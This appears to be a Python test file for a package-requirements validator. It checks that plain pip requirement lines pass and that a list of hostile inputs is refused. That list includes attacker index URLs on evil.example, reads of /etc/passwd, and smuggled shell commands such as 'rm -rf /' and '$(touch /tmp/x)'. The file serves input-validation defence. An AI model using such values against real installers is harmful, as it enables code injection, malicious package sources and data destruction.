"""Requirement lines from people: plain ones are taken, whatever else pip would do is refused."""

import pytest

from tidemill.images.requirements import check_frozen, check_requirements
from tidemill.kernel.errors import Invalid

PLAIN = [
    "numpy",
    "numpy==2.3.1",
    "numpy ~= 2.3, != 2.3.2",
    "uvicorn[standard]>=0.35,<1",
    "zope.interface==7.*",
    'pywin32 ; sys_platform == "win32"',
    "torch==2.13.0+cpu",
    f"six==1.17.0 --hash=sha256:{'0' * 64} --hash=sha256:{'1' * 64}",
]
HOSTILE = [
    "--index-url https://evil.example/simple",
    "--extra-index-url=https://evil.example",
    "-r /etc/passwd",
    "-c constraints.txt",
    "-e git+https://evil.example/x.git#egg=x",
    "git+https://evil.example/x.git",
    "https://evil.example/x-1-py3-none-any.whl",
    "file:///etc/passwd",
    "./local",
    "../x",
    "/abs/path",
    "x @ file:///etc/passwd",
    "x @ git+https://evil.example/x.git",
    "x --global-option=--evil",
    "x --config-settings=a=b",
    "numpy; rm -rf /",
    "$(touch /tmp/x)",
    "`id`",
    "numpy\\",
    "numpy\n--index-url https://evil.example",
    "numpy\r--index-url https://evil.example",
    "${HOME}",
    "x==1 --hash=md5:00",
    "a" * 2000,
]


def test_plain_requirements_are_kept_and_comments_dropped() -> None:
    assert check_requirements([*PLAIN, "", "  # nothing", "six # why"], ()) == [*PLAIN, "six"]


def test_the_platforms_own_package_is_in_every_environment_anyway() -> None:
    assert check_requirements(["Tidemill==0.1", "six"], ()) == ["six"]
    frozen = ["-e git+https://host/x#egg=tidemill", "tidemill @ file:///src", "six==1.17.0"]
    assert check_frozen(frozen, ()) == ["six==1.17.0"]


@pytest.mark.parametrize("line", HOSTILE)
def test_whatever_else_pip_would_do_is_refused(line: str) -> None:
    with pytest.raises(Invalid) as refused:
        check_requirements([line], ())
    assert refused.value.field == "requirements"


def test_an_address_is_taken_only_where_it_may_be_reached() -> None:
    line = "x @ http://127.0.0.1:9/x-1-py3-none-any.whl"
    with pytest.raises(Invalid) as refused:
        check_requirements([line], ())
    assert refused.value.code == "address_private"
    assert check_requirements([line], ["127.0.0.1"]) == [line]


def test_a_list_has_an_end() -> None:
    with pytest.raises(Invalid):
        check_requirements(["six"] * 501, ())
    with pytest.raises(Invalid):
        check_requirements(["a" * 900] * 100, ())
